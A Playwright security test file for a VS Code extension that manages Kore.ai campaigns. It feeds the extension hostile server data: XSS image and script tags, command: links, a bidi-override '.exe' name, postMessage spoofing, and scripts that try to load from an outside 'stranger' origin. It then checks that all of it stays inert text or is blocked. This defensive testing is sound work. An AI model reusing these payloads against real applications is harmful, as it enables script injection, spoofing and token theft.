import { strict as assert } from 'node:assert';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Locator } from 'playwright-core';
import { sampleCampaigns, type SampleCampaign } from '../../src/demo/sampleCampaigns.ts';
import { startSampleServer, type SampleServer } from '../../src/demo/sampleServer.ts';
import { useOwnWorkbench, writeWorkspaceSettings } from './session.ts';
import { startStranger, type Stranger } from './stranger.ts';
import { until } from '../support/until.ts';

/** A connection as the settings have it. */
function entryFor({ credentials }: SampleServer, name: string, host: string) {
  const { streamId, accountId, clientId } = credentials;
  return { name, host, streamId, accountId, clientId };
}

/** Shows to the page of a window's opener, and to all frames in it, what only the host may show. */
const spoof = `<script>
  const content = { state: 'failed', message: 'This is a stranger speaking.', causes: [] };
  const saved = { connectionKey: '', campaignId: '', position: 1, sessionId: '', toSide: false };
  const speak = (window) => {
    window.postMessage({ type: 'show', content, saved }, '*');
    for (let index = 0; index < window.length; index++) speak(window[index]);
  };
  setInterval(() => speak(opener), 100);
</script>`;

/** A script that lets tests speak for the page of a webview: it keeps what VS Code gives that page once. */
const keepApi = `{
  let give;
  Object.defineProperty(globalThis, 'acquireVsCodeApi', {
    set: (value) => (give = value),
    get: () => () => (globalThis.api = give()),
  });
}`;

/** JSON; none of them is a message of the contact details' page. */
const wrongMessages = JSON.stringify([
  null,
  'copy',
  7,
  [],
  {},
  { type: null },
  { type: 'run', command: 'workbench.action.quit' },
  { type: 'copy' },
  { type: 'copy', what: '__proto__' },
  { type: 'copy', what: 'clientSecret' },
  { type: 'copy', what: ['phoneNumber'] },
  { type: ['copy'], what: 'phoneNumber' },
]);

/** All that the extension has logged in a VS Code. */
function logOf(tempDir: string): string {
  const files = readdirSync(join(tempDir, 'data/logs'), { encoding: 'utf8', recursive: true });
  return files
    .filter((file) => file.endsWith('Kore Campaigns.log'))
    .map((file) => readFileSync(join(tempDir, 'data/logs', file), 'utf8'))
    .join('');
}

/** A script that puts into its page what the policy of that page must stop, and tells what came of it. */
const intrude = (origin: string) => `(async () => {
  const broken = new Set();
  document.addEventListener('securitypolicyviolation', (event) => broken.add(event.effectiveDirective));
  const main = document.querySelector('main');
  const add = (tag, properties) => main.append(Object.assign(document.createElement(tag), properties));
  add('script', { textContent: 'document.title = "hacked"' });
  add('script', { src: '${origin}/script.js' });
  add('style', { textContent: '@import url(${origin}/style.css); main { color: red }' });
  add('iframe', { src: '${origin}/frame' });
  main.insertAdjacentHTML('beforeend', '<img src="${origin}/image" onerror="document.title = 1">');
  await fetch('${origin}/fetch').catch(() => undefined);
  await new Promise((resolve) => setTimeout(resolve, 500));
  return { title: document.title, broken: [...broken].sort() };
})()`;

describe('an attack', () => {
  describe('by the words of a server', () => {
    let stranger: Stranger;
    let server: SampleServer;
    let campaign: SampleCampaign;
    let isRefusing = false;
    const userSettings: Record<string, unknown> = {};
    const words = () => {
      const image = `<img src="${stranger.origin}/image" onerror="document.title='hacked'">`;
      const script = `<script>document.title='hacked'</script>`;
      const link = '[Click](command:workbench.action.toggleZenMode) $(flame)';
      return { image, script, link, all: `${image}${script}${link}<b>bold</b>` };
    };
    before('start the servers', async () => {
      stranger = await startStranger(spoof);
      const { all, link } = words();
      campaign = {
        ...(sampleCampaigns[0] as SampleCampaign),
        id: `cd-1/../..%2f${all}`,
        name: `Hostile ${link} ${all}`,
        description: all,
        status: link,
        dialingMode: link,
        connection: all,
        contactLists: [all],
        fixedContacts: [
          {
            phoneNumber: `1555 ${link} ${all}`,
            uniqueId: all,
            dialerOutcome: `${link} ${all}`,
            numberOfAttemptsSoFar: 1,
            botSessionId: `${all}\u202egnp.exe`,
            agentDispositionCodes: [all, link],
            botOutboundStatus: all,
            botOutboundStatusDetail: all,
          },
        ],
      };
      server = await startSampleServer({ campaigns: [campaign], requestsPerMinute: Infinity });
      userSettings['koreCampaigns.connections'] = [entryFor(server, `Care ${link}`, server.origin)];
    });
    after('stop the servers', async () => {
      stranger.stop();
      await server.stop();
    });
    const session = useOwnWorkbench({ userSettings });

    /** No markup of a server is there, nothing of it was loaded, and none of it has run. */
    async function nothingHappened(where: Locator): Promise<void> {
      assert.equal(
        await where.locator('img, script, iframe, b, a[href^="command"], [class*=codicon-flame]').count(),
        0,
      );
      assert.deepEqual(stranger.visits, []);
      assert.doesNotMatch(await session.workbench.page.title(), /hacked/u);
    }

    it('is shown as text in the side bar', async () => {
      const { workbench } = session;
      await workbench.openView('Kore Campaigns');
      await workbench.runCommand('Kore Campaigns: Set Client Secret…');
      await workbench.quickInput.answer(server.credentials.clientSecret);
      await workbench.tree.row(/^Campaign, Hostile/u).waitFor();
      await workbench.tree.expand(/^Campaign, Hostile/u);
      const names = (await workbench.tree.names()).join('\n');
      assert.ok(names.includes(words().image), names);
      assert.ok(!/\p{Bidi_Control}/u.test(names));
      await workbench.screenshot('attack-tree');
      await nothingHappened(workbench.page.locator('.part.sidebar .monaco-list-rows .label-name'));
    });

    it('is shown as text where the pointer rests', async () => {
      const { page, tree } = session.workbench;
      for (const row of [/^Campaign, Hostile/u, /^Contact 1, /u]) {
        await page.mouse.move(0, 0);
        await tree.row(row).hover();
        const hover = page.locator('.monaco-hover').filter({ hasText: words().script }).last();
        await hover.waitFor();
        await nothingHappened(hover);
      }
    });

    it('is shown as text in the details of a contact', async () => {
      const { workbench } = session;
      await workbench.tree.click(/^Contact 1, /u);
      const main = workbench.webview.locator('main');
      await workbench.webview.getByRole('button', { name: 'Copy Session ID' }).waitFor();
      const { image, script, all } = words();
      const shown = await main.innerText();
      assert.ok(shown.split(image).length > 8 && shown.includes(script), shown);
      assert.doesNotMatch(shown, /\p{Bidi_Control}/u);
      await workbench.screenshot('attack-details');
      await nothingHappened(main);
      const copied = await workbench.copied(() =>
        workbench.webview.getByRole('button', { name: 'Copy unique ID' }).click(),
      );
      assert.equal(copied, all);
    });

    it('finds no way past the policy of the page, even if it became markup', async () => {
      const { workbench } = session;
      const { title, broken } = await workbench.webview
        .locator('main')
        .evaluate<{ title: string; broken: string[] }, unknown>(intrude(stranger.origin));
      assert.equal(title, 'Contact Details');
      const directives = [
        'connect-src',
        'frame-src',
        'img-src',
        'script-src-attr',
        'script-src-elem',
        'style-src-elem',
      ];
      assert.deepEqual(broken, directives);
      assert.deepEqual(stranger.visits, []);
    });

    it('is shown as text in a message', async () => {
      const { workbench } = session;
      const said = { status: 400, body: { message: `${words().link} ${words().image}` } };
      isRefusing = true;
      server.intercept(({ query }) => isRefusing && query === 'view=contacts', said, Infinity);
      await workbench.runCommand('Kore Campaigns: Refresh Campaigns');
      await workbench.tree.row(/^Kore\.ai did not accept the request/u).waitFor();
      await workbench.tree.openMenu(/^Campaign, Hostile/u);
      await workbench.pickFromMenu('Copy Session IDs');
      const message = workbench.notification(/Not all contacts/u);
      await message.waitFor();
      assert.match(await message.innerText(), /\[Click\] \(command:/u);
      await workbench.screenshot('attack-message');
      await nothingHappened(message.locator('.notification-list-item-message'));
      await workbench.clearNotifications();
    });

    it('is shown as text in the details of a contact that cannot be had', async () => {
      const { workbench } = session;
      await workbench.reload();
      const main = workbench.webview.locator('main');
      await workbench.webview.getByRole('button', { name: 'Try Again' }).waitFor();
      assert.ok((await main.innerText()).includes(words().image));
      await nothingHappened(main);
    });

    it('by a page that opens the window and speaks to the frames in it is not heard', async () => {
      const { workbench } = session;
      const { page } = workbench;
      const popup = page.waitForEvent('popup');
      await page.evaluate(`void window.open('${stranger.origin}/opened')`);
      const other = await popup;
      await other.waitForLoadState();
      await new Promise((resolve) => setTimeout(resolve, 1_000));
      await page.bringToFront();
      const text = await workbench.webview.locator('main').innerText();
      await other.close();
      stranger.forget();
      assert.doesNotMatch(text, /stranger/u);
    });

    it('is shown as text where icons are drawn: in quick picks and in the status bar', async () => {
      const { workbench } = session;
      const { quickInput, page, tree } = workbench;
      isRefusing = false;
      await workbench.runCommand('Kore Campaigns: Refresh Campaigns');
      await tree.openMenu(/^Campaign, Hostile/u);
      await workbench.pickFromMenu('Find Contact…');
      await quickInput.type('1555');
      const rows = quickInput.widget.locator('.monaco-list-row');
      await rows.filter({ hasText: 'Search all contacts of' }).click();
      const hit = rows.filter({ hasText: '1555' });
      await hit.first().waitFor();
      await workbench.screenshot('attack-quick-pick');
      await nothingHappened(quickInput.widget);
      await quickInput.cancel();
      await workbench.runCommand('Kore Campaigns: Forget Client Secret…');
      await workbench.answerDialog('Forget');
      await workbench.status(/is forgotten/u).waitFor();
      await nothingHappened(page.locator('.statusbar'));
    });
  });

  describe('by its own page', () => {
    let server: SampleServer;
    const userSettings: Record<string, unknown> = {};
    before('start the server', async () => {
      server = await startSampleServer({ requestsPerMinute: Infinity });
      userSettings['koreCampaigns.connections'] = [entryFor(server, 'Care', server.origin)];
    });
    after('stop the server', () => server.stop());
    const session = useOwnWorkbench({ userSettings });

    it('with messages of a wrong shape comes to nothing', async () => {
      const { workbench, vscode } = session;
      const { page } = workbench;
      await page.addInitScript(keepApi);
      await workbench.reload();
      await workbench.openView('Kore Campaigns');
      await workbench.runCommand('Kore Campaigns: Set Client Secret…');
      await workbench.quickInput.answer(server.credentials.clientSecret);
      await workbench.tree.expand(/^Campaign, Smoke test/u);
      // What is told of the campaign would cover its contact.
      await page.mouse.move(900, 400);
      await workbench.tree.click(/^Contact 1, /u);
      await workbench.webview.getByRole('button', { name: 'Copy phone number' }).waitFor();
      await workbench.writeClipboard('as it was');
      await workbench.webview
        .locator('main')
        .evaluate<unknown, unknown>(`${wrongMessages}.forEach((one) => api.postMessage(one))`);
      const count = (JSON.parse(wrongMessages) as unknown[]).length;
      const ignored = () => logOf(vscode.tempDir).split('its page sent an unknown message').length - 1;
      await until('all messages to be ignored', () => Promise.resolve(ignored() === count));
      assert.equal(await workbench.readClipboard(), 'as it was');
      // Whoever speaks properly is heard all the same.
      await workbench.webview
        .locator('main')
        .evaluate<unknown, unknown>(`api.postMessage({ type: 'copy', what: 'json' })`);
      await until('the clipboard to be filled', async () =>
        /phoneNumber/u.test(await workbench.readClipboard()),
      );
    });
  });

  describe('by a browser on the sample server', () => {
    let server: SampleServer;
    let stranger: Stranger;
    before('start the servers', async () => {
      server = await startSampleServer();
      stranger = await startStranger();
    });
    after('stop the servers', async () => {
      stranger.stop();
      await server.stop();
    });
    const session = useOwnWorkbench();

    it('is refused from a page of another site, and as a page', async () => {
      const tab = await session.workbench.page.context().newPage();
      const statuses: number[] = [];
      tab.on('response', (response) => {
        if (response.url().startsWith(server.origin)) statuses.push(response.status());
      });
      await tab.goto(stranger.origin);
      const url = `${server.origin}/campaign/api/v2/public/st-1/campaign/getAllCampaignDetails`;
      const read = await tab.evaluate<unknown[]>(`Promise.all([
        fetch('${server.origin}/'),
        fetch('${url}', { method: 'POST' }),
        fetch('${url}', { method: 'POST', headers: { auth: 'x', 'Content-Type': 'application/json' }, body: '{}' }),
        fetch('${url}', { method: 'POST', mode: 'no-cors' }),
      ].map((asked) => asked.then((answer) => answer.text(), () => 'failed')))`);
      assert.deepEqual(read, ['failed', 'failed', 'failed', '']);
      await tab.goto(server.origin);
      assert.match(await tab.locator('body').innerText(), /answers no browser pages/u);
      await tab.close();
      assert.ok(statuses.length >= 2 && statuses.every((status) => status === 403), statuses.join());
      assert.deepEqual(server.seen, []);
    });
  });

  for (const trust of ['trusted', 'untrusted'] as const) {
    describe(`by the settings of a folder that is ${trust}`, () => {
      let server: SampleServer;
      let stranger: Stranger;
      const userSettings: Record<string, unknown> = {};
      before('start the servers', async () => {
        server = await startSampleServer({ requestsPerMinute: Infinity });
        stranger = await startStranger();
        userSettings['koreCampaigns.connections'] = [entryFor(server, 'Care', server.origin)];
      });
      after('stop the servers', async () => {
        stranger.stop();
        await server.stop();
      });
      const session = useOwnWorkbench({ userSettings, workspaceTrust: trust === 'untrusted' });

      const campaigns = () => session.workbench.tree.row(/^Campaign, Black Friday/u);
      const notSignedIn = () => session.workbench.tree.row(/^Not signed in/u);
      const askedForSecret = () => session.workbench.page.getByRole('button', { name: 'Set Client Secret…' });

      it('gets no token to another host', async () => {
        const { workbench, workspace } = session;
        if (trust === 'untrusted') await workbench.status(/Restricted Mode/u).waitFor();
        await workbench.openView('Kore Campaigns');
        await askedForSecret().click();
        await workbench.quickInput.answer(server.credentials.clientSecret);
        await campaigns().waitFor();

        const connections = [entryFor(server, 'Care', stranger.origin)];
        writeWorkspaceSettings(workspace, { 'koreCampaigns.connections': connections });
        if (trust === 'untrusted') {
          await workbench.runCommand('Kore Campaigns: Refresh Campaigns');
          await campaigns().waitFor();
          assert.equal(await notSignedIn().count(), 0);
          await workbench.screenshot('attack-untrusted');
          await workbench.runCommand('Workspaces: Manage Workspace Trust');
          await workbench.page.getByRole('button', { name: 'Trust', exact: true }).first().click();
        }
        // Beside the user's own connection of the same name.
        await notSignedIn().waitFor();
        await workbench.screenshot(`attack-${trust}`);
        await workbench.runCommand('Kore Campaigns: Refresh Campaigns');
        await notSignedIn().waitFor();
        await campaigns().waitFor();
        assert.deepEqual(stranger.visits, []);

        writeWorkspaceSettings(workspace, {});
        await notSignedIn().waitFor({ state: 'detached' });
        await campaigns().waitFor();
        assert.deepEqual(stranger.visits, []);
      });
    });
  }
});
